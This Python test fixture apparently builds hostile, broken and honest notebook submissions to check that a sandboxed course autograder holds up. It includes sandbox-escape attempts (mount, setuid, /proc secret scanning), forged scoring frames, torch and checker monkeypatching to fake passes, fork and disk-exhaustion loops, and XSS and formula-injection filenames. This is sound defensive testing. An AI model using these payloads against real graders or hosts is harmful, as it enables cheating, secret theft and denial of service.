"""A corpus of submissions for the grader: honest, mistaken, broken and hostile ones.

Hostile answers report what they managed to do through the only channel a student has,
their own feedback: ``Mul.forward`` raises ``RuntimeError("REPORT ...")``. The tests read
those reports and the machine's state after the batch, never the attacker's word alone.
"""
from __future__ import annotations

import json
import textwrap
from pathlib import Path

import nbformat

from answers import MUL, SWAPPED, mutate, recomputed_by
from conftest import ROOT

SECRET = "instructor-secret-7f3a9c"  # in the grader's environment and in a file in its HOME
MARKER = "course-grader-leftover-5d1e"  # argv of a process a hostile answer leaves behind


HTML_NAME = "<img src=x onerror=alert(1)>.ipynb"

def submission(number: str, answers: dict[str, str] | None = None, edit=None) -> nbformat.NotebookNode:
    """A student's copy of exercise notebook `number`: solutions everywhere unless `answers` overrides."""
    nb = nbformat.read(ROOT / "solutions" / f"{number}_exercises.ipynb", as_version=4)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if answers and gid in answers:
            cell.source = textwrap.dedent(answers[gid])
    if edit:
        edit(nb)
    return nb


def unattempted(number: str) -> nbformat.NotebookNode:
    return nbformat.read(ROOT / "exercises" / f"{number}_exercises.ipynb", as_version=4)


# a sitecustomize.py for a judge process: at its exit it writes how many threads its torch computed on
JUDGE_THREADS_SITE = """
import atexit, os, sys

def _report():  # at the judge's exit (``finish`` runs the atexit handlers): the threads its torch computed on
    torch = sys.modules.get("torch")
    with open(os.environ["JUDGE_THREADS_OUT"], "w") as f:
        f.write(str(torch.get_num_threads()) if torch is not None else "torch never imported")

atexit.register(_report)
"""


def answer(number: str, gid: str) -> str:
    nb = submission(number)
    return next(c.source for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


IMPORTS = "\nimport torch\nfrom torch.autograd import Function"  # a student cell's own imports, before the answer
SWAPPED_MUL = IMPORTS + mutate(MUL, SWAPPED)

REPORTER = """
import torch
from torch.autograd import Function
class Mul(Function):
    @staticmethod
    def forward(ctx, a, b):
        raise RuntimeError("REPORT " + REPORT)
    @staticmethod
    def backward(ctx, g):
        return g, g
"""

ESCAPE = """
import ctypes, os, socket, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
ran, ok = 0, []
def attempt(name, fn):
    global ran
    ran += 1
    try:
        fn()
        ok.append(name)
    except BaseException:
        pass
def mount():
    for target in (b"/", b"/course", b"/usr", b"/proc"):
        if libc.mount(b"none", target, None, 32 | 4096, None) == 0:
            return
    raise OSError("no")
def must(x):
    if not x:
        raise OSError("no")
attempt("remount", mount)
attempt("write_course", lambda: open("/course/course_utils/checks/lesson02.py", "a").write("# pwned"))
attempt("write_victim", lambda: open(VICTIM, "w").write("pwned"))
attempt("write_usr", lambda: open(USR_TARGET, "w").write("x"))
attempt("sysctl", lambda: open("/proc/sys/vm/swappiness", "w").write(open("/proc/sys/vm/swappiness").read()))
attempt("sysrq", lambda: open("/proc/sysrq-trigger", "w").write("h"))
attempt("unshare_user", lambda: must(libc.unshare(0x10000000) == 0))
attempt("setuid_root", lambda: os.setuid(0))
attempt("is_root", lambda: must(os.geteuid() == 0))
attempt("caps", lambda: must(int(open("/proc/self/status").read().split("CapEff:")[1].split()[0], 16)))
attempt("ptrace_me", lambda: must(libc.ptrace(0, 0, 0, 0) == 0))
attempt("net", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2))
attempt("abstract_socket", lambda: socket.socket(socket.AF_UNIX).connect(b"\\0" + ABSTRACT.encode()))
attempt("solutions", lambda: open(SOLUTIONS).read())
attempt("batch", lambda: os.listdir(BATCH))
attempt("home_file", lambda: open(HOME_FILE).read())
attempt("env", lambda: must(any(SECRET in v for v in os.environ.values())))
def proc_scan():
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                if (SECRET.encode() in open(f"/proc/{p}/environ", "rb").read()
                        or b"course_utils.grade" in open(f"/proc/{p}/cmdline", "rb").read()):
                    return
            except OSError:
                pass
    raise OSError("no")
attempt("host_proc", proc_scan)
attempt("affinity", lambda: os.sched_setaffinity(0, range(os.cpu_count() or 1)))
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", MARKER], start_new_session=True)
REPORT = f"ran={ran} ok={','.join(ok) or 'none'}"
""" + REPORTER

FORGE_POINTS = SWAPPED_MUL + """
import os
from course_utils.grading.sandbox.protocol import frame
junk = [frame({"kind": "facts", "exercise": "mul", "points": "lots", "status": "passed"}),
        frame({"kind": "facts", "exercise": "mul", "facts": {"stages": [{"cases": []}, {"cases": []}]},
               "cell_errors": [], "printed": 0, "fake_output": False, "points": 1e6, "total": 1e6}),
        frame({"kind": "result", "exercise": "mul", "points": 2, "max": 2}),
        b"\\xff\\xff\\x00\\x01garbage"]
for fd in range(3, 40):
    for data in junk:
        try:
            os.write(fd, data)
        except OSError:
            pass
"""

TORCH_OVERRIDES = SWAPPED_MUL + """
import sys, gc
import torch
from torch.overrides import TorchFunctionMode
class Yes(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isfinite"):
            return True
        return func(*args, **(kwargs or {}))
Yes().__enter__()
lib = torch.library.Library("aten", "IMPL")
lib.impl("allclose", lambda *a, **k: True, "CPU")
sys.settrace(lambda *a: None)
sys.setprofile(lambda *a: None)
from course_utils.checks import EXERCISES, autograd_function as functions
functions.close.__code__ = (lambda a, b, dtype: True).__code__
for obj in gc.get_objects():
    if type(obj).__name__ == "Stage":
        object.__setattr__(obj, "points", 1000)
EXERCISES["mul"].__dict__
"""

KEEPALIVE = """
import os
from course_utils.grading.sandbox.protocol import frame
msg = frame({"kind": "begin", "exercise": "mul"}) + frame({"kind": "ready"})
while True:
    for fd in range(3, 20):
        try:
            os.write(fd, msg)
        except OSError:
            pass
"""

FLOOD = """
import os
from course_utils.grading.sandbox.protocol import frame
big = frame({"kind": "begin", "exercise": "mul", "pad": "x" * 90000})
for _ in range(5000):
    for fd in range(3, 12):
        try:
            os.write(fd, big)
        except OSError:
            pass
""" + SWAPPED_MUL

FILL_SCRATCH = """
import os
for folder in ("/scratch", "/tmp", os.getcwd()):
    try:
        with open(os.path.join(folder, "fill"), "wb") as f:
            for _ in range(100000):
                f.write(b"x" * (1 << 20))
    except OSError:
        pass
"""

SHADOW = """
import os
for base in (os.getcwd(), "/scratch", "/tmp"):
    try:
        os.makedirs(os.path.join(base, "course_utils", "grading"), exist_ok=True)
        for name in ("course_utils/__init__.py", "course_utils/grading/__init__.py"):
            open(os.path.join(base, name), "w").write("")
        fake = "import time\\nwhile True: time.sleep(1)\\n"
        open(os.path.join(base, "course_utils", "grading", "runner.py"), "w").write(fake)
        open(os.path.join(base, "sitecustomize.py"), "w").write(fake)
        open(os.path.join(base, "usercustomize.py"), "w").write(fake)
    except OSError:
        pass
os._exit(1)
"""

MEMORY_CHILDREN = """
import subprocess, sys
code = "import sys; b = b'x' * (700 * 2**20); print('ok', flush=True); sys.stdin.read()"
kids = [subprocess.Popen([sys.executable, "-S", "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        for _ in range(4)]
done = sum(1 for k in kids if k.stdout.readline().strip() == b"ok")  # all four alive at once
for k in kids:
    k.kill()
REPORT = f"children_ok={done}"
""" + REPORTER

BUSY = """
import os, subprocess, sys, threading
for _ in range(400):
    try:
        threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()
    except RuntimeError:
        break
for _ in range(8):
    try:
        subprocess.Popen([sys.executable, "-c", "while True: pass"])
    except OSError:
        break
while True:
    pass
"""

AUTOGRAD_BACKWARD = IMPORTS + mutate(MUL, recomputed_by("torch.autograd.grad"))
ALIAS_AUTOGRAD = IMPORTS + ", grad as G" + mutate(MUL, recomputed_by("G"))

ANSI = SWAPPED_MUL + """
print("\\x1b[2J\\x1b[31mred\\x07 text")
raise ValueError("\\x1b]0;title\\x07\\x1b[1mbold\\x1b[0m")
"""

OVERLAP = SWAPPED_MUL + """
import json, os, struct
header = json.dumps({"kind": "facts", "exercise": "mul", "cell_errors": [], "printed": 0, "fake_output": False,
                     "facts": [{"$t": ["uint8", [1 << 20], 0, 1 << 20]}] * 2000}).encode()
body = struct.pack("<I", len(header)) + header + bytes(1 << 20)
data = struct.pack(">I", len(body)) + body
for fd in range(3, 40):
    try:
        os.write(fd, data)
    except OSError:
        pass
"""

REFERENCE_HUNT = """
import os
found = []
def tryit(name, fn):
    try:
        fn()
        found.append(name)
    except BaseException:
        pass
tryit("import_checks", lambda: __import__("course_utils.checks"))
tryit("import_lesson02", lambda: __import__("course_utils.checks.lesson02"))
tryit("import_release", lambda: __import__("course_utils.release"))
tryit("read_checks", lambda: open("/course/course_utils/checks/lesson02.py").read())
tryit("plant_module", lambda: open("/course/course_utils/checks.py", "w").write("x = 1"))
tryit("plant_probe", lambda: open("/course/course_utils/probes/lesson02.py", "a").write("x = 1"))
listing = sorted(os.listdir("/course/course_utils"))
REPORT = f"found={','.join(found) or 'none'} listing={'+'.join(listing)}"
""" + REPORTER

# A loop that catches everything: the runner's alarm (runner.Budget, raised once per cell, on its CPU clock after
# --timeout or its wall clock after 2 x --timeout, whichever comes first: on a loaded machine a spinning loop meets
# the wall clock first too) is swallowed, and from then on only the judge's backstop, a clock in another process
# that kills the worker whatever it does, can end it. The loop waits instead of spinning: the very same path
# (alarm raised, swallowed, backstop, the exercise scored 0 with "did not finish", the runner restarted for the rest)
# without 3 x --timeout of a CPU, and the harder case for the backstop (no CPU rlimit would end a waiting loop
# either); infinite_loop.ipynb and busy.ipynb are the spinning loops the runner's CPU clock stops.
CATCH_ALL = """
import time
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
"""

# answers that reach for the grader: graded, and held for review with this reason
HELD = {"escape.ipynb": "imports `ctypes`", "forge_points.ipynb": "imports the course's own package",
        "torch_overrides.ipynb": "intercepts torch functions", "keepalive.ipynb": "imports the course's own package",
        "flood.ipynb": "imports the course's own package", "fill_scratch.ipynb": "calls `open`",
        "shadow_worker.ipynb": "imports `os`", "memory_children.ipynb": "imports `subprocess`",
        "busy.ipynb": "imports `threading`", "kernel_killer.ipynb": "imports `os`", "sys_exit.ipynb": "imports `sys`",
        "os_exit.ipynb": "imports `os`", "overlap.ipynb": "imports `os`", "reference_hunt.ipynb": "imports `os`"}


def tamper_check_cell(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = 'print("✓ mul: 2/2 points. All checks passed.")'


def constants(**values: object) -> str:
    return "".join(f"{k} = {v!r}\n" for k, v in values.items())


# what a hostile answer does to the machine when nothing stops it: never written without a sandbox
HARMFUL_WITHOUT_SANDBOX = ("escape.ipynb", "reference_hunt.ipynb", "fill_scratch.ipynb", "shadow_worker.ipynb",
                           "memory_children.ipynb", "busy.ipynb")


def write_corpus(folder: Path, ctx: dict, sandboxed: bool = True) -> dict[str, dict]:
    """Write every kind of submission into `folder`; return name -> expectations.

    Without a sandbox the submissions that would write outside their folder, plant files in
    /tmp or load the machine are left out: the test suite must never attack its own host.
    """
    folder.mkdir(parents=True)
    head = constants(**ctx)
    fn_answer = answer("04", "linear_function_answer")
    cases = {
        "correct.ipynb": (submission("02"), {"mul": 2}, []),
        "swapped.ipynb": (submission("02", {"mul_answer": SWAPPED_MUL}), {"mul": 1}, []),
        "unattempted.ipynb": (unattempted("06"), {"abs_prod": 0}, []),
        "tampered_check.ipynb": (submission("02", {"mul_answer": SWAPPED_MUL}, tamper_check_cell), {"mul": 1},
                                 ["locked cell mul was modified"]),
        "fake_output.ipynb": (submission("02", {"mul_answer": "print('✓ mul: 2/2 points. All checks passed.')"}),
                              {"mul": 0}, ["looks like a check result"]),
        "infinite_loop.ipynb": (submission("04", {"linear_module_answer": fn_answer + "\nwhile True:\n    pass\n"}),
                                {"linear_function": 4, "linear_module": 0}, []),
        # a loop that swallows the runner's own time limit: only the judge's backstop (3 x --timeout) ends it, the
        # batch's longest file; its name sorts it among the first, so it overlaps the other slot's files instead of
        # ending the batch alone (CATCH_ALL says why it waits instead of spinning)
        "catch_all_loop.ipynb": (submission("04", {"linear_module_answer": CATCH_ALL}),
                                 {"linear_function": 4, "linear_module": 0}, []),
        "memory_hog.ipynb": (submission("04", {"linear_module_answer": "import torch\nhog = torch.ones(3 * 10**9)\n"}),
                             {"linear_function": 4, "linear_module": 0}, []),
        "kernel_killer.ipynb": (submission("04", {"linear_module_answer":
                                                  "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"}),
                                {"linear_function": 4, "linear_module": 0}, []),
        "sys_exit.ipynb": (submission("04", {"linear_module_answer": "import sys\nsys.exit(0)\n"}),
                           {"linear_function": 4, "linear_module": 0}, []),
        "os_exit.ipynb": (submission("04", {"linear_module_answer": "import os\nos._exit(0)\n"}),
                          {"linear_function": 4, "linear_module": 0}, []),
        "huge_output.ipynb": (submission("05", {"killhead_answer": answer("05", "killhead_answer")
                                                + "\nfor _ in range(3000):\n    print('x' * 1000)\n"}),
                              {"killhead": 2}, ["printed 3,003,000 characters"]),
        "escape.ipynb": (submission("02", {"mul_answer": head + ESCAPE}), {"mul": 0}, []),
        "forge_points.ipynb": (submission("02", {"mul_answer": FORGE_POINTS}), {"mul": 0}, ["not valid"]),
        "torch_overrides.ipynb": (submission("02", {"mul_answer": TORCH_OVERRIDES}), {"mul": 1}, []),
        "keepalive.ipynb": (submission("02", {"mul_answer": KEEPALIVE}), {"mul": 0}, []),
        "flood.ipynb": (submission("02", {"mul_answer": FLOOD}), {"mul": 0}, []),
        "fill_scratch.ipynb": (submission("02", {"mul_answer": FILL_SCRATCH + answer("02", "mul_answer")}),
                               {"mul": 2}, []),
        "shadow_worker.ipynb": (submission("04", {"linear_function_answer": fn_answer + SHADOW}),
                                {"linear_function": 0, "linear_module": 0}, []),
        "memory_children.ipynb": (submission("02", {"mul_answer": MEMORY_CHILDREN}), {"mul": 0}, []),
        "busy.ipynb": (submission("02", {"mul_answer": BUSY}), {"mul": 0}, []),
        "autograd_backward.ipynb": (submission("02", {"mul_answer": AUTOGRAD_BACKWARD}), {"mul": 2},
                                    ["backward calls autograd itself"]),
        "alias_autograd.ipynb": (submission("02", {"mul_answer": ALIAS_AUTOGRAD}), {"mul": 2},
                                 ["backward calls autograd itself (torch.autograd.grad)"]),
        "ansi.ipynb": (submission("02", {"mul_answer": ANSI}), {"mul": 1}, []),
        "reference_hunt.ipynb": (submission("02", {"mul_answer": REFERENCE_HUNT}), {"mul": 0}, []),
        "overlap.ipynb": (submission("02", {"mul_answer": OVERLAP}), {"mul": 0}, ["not valid"]),
        "=HYPERLINK(1).ipynb": (submission("02"), {"mul": 2}, []),
        "@sum.ipynb": (submission("02", {"mul_answer": SWAPPED_MUL}), {"mul": 1}, []),
    }
    cases["forge_points.ipynb"][1]["mul"] = 0  # junk facts score 0 and the lower score is kept
    if not sandboxed:
        for name in HARMFUL_WITHOUT_SANDBOX:
            del cases[name]
    for name, (nb, _, _) in cases.items():
        nbformat.write(nb, folder / name)
    (folder / "a").mkdir()
    nbformat.write(submission("02"), folder / "a" / "b.ipynb")
    nbformat.write(submission("02", {"mul_answer": SWAPPED_MUL}), folder / "a__b.ipynb")
    (folder / "notes.txt").write_text("not a notebook at all\n")
    (folder / "truncated.ipynb").write_text((folder / "correct.ipynb").read_text()[:700])
    (folder / HTML_NAME).write_text((folder / "correct.ipynb").read_text()[:500])  # a name the dashboard must escape
    alien = submission("02")
    alien.metadata["autograd_course"]["assignment"] = "99_unknown"
    nbformat.write(alien, folder / "unknown_assignment.ipynb")
    gutted = submission("02")
    gutted.cells = [c for c in gutted.cells if not c.metadata.get("nbgrader", {}).get("solution")]
    nbformat.write(gutted, folder / "no_answers.ipynb")
    raw = json.loads((folder / "correct.ipynb").read_text())
    raw["cells"][3]["source"] = 5
    (folder / "source_not_text.ipynb").write_text(json.dumps(raw))
    raw = json.loads((folder / "correct.ipynb").read_text())
    for c in raw["cells"]:
        if c["metadata"].get("nbgrader", {}).get("solution"):
            c["metadata"]["nbgrader"]["grade_id"] = ["mul_answer"]
    (folder / "list_grade_id.ipynb").write_text(json.dumps(raw))
    (folder / "link_to_solution.ipynb").symlink_to(ROOT / "solutions" / "02_exercises.ipynb")
    (folder / "linked_folder").symlink_to(ROOT / "solutions")
    expect = {name: {"points": pts, "flags": flags, "held": HELD.get(name)} for name, (_, pts, flags) in cases.items()}
    expect["a/b.ipynb"] = {"points": {"mul": 2}, "flags": []}
    expect["a__b.ipynb"] = {"points": {"mul": 1}, "flags": []}
    expect["notes.txt"] = {"status": "not a notebook", "flags": ["not JSON"]}
    expect["truncated.ipynb"] = {"status": "not a notebook", "flags": ["truncated or invalid JSON"]}
    expect[HTML_NAME] = {"status": "not a notebook", "flags": ["truncated or invalid JSON"]}
    expect["unknown_assignment.ipynb"] = {"status": "unknown assignment", "flags": ["no known assignment", "99_unknown"]}
    expect["no_answers.ipynb"] = {"status": "no answer cells", "flags": ["has no answer cells"]}
    expect["source_not_text.ipynb"] = {"status": "not a notebook", "flags": ["source that is not text"]}
    expect["list_grade_id.ipynb"] = {"status": "no answer cells", "flags": ["has no answer cells"]}
    expect["link_to_solution.ipynb"] = {"status": "skipped", "flags": ["symbolic link"]}
    expect["linked_folder"] = {"status": "skipped", "flags": ["symbolic link to a folder"]}
    return expect
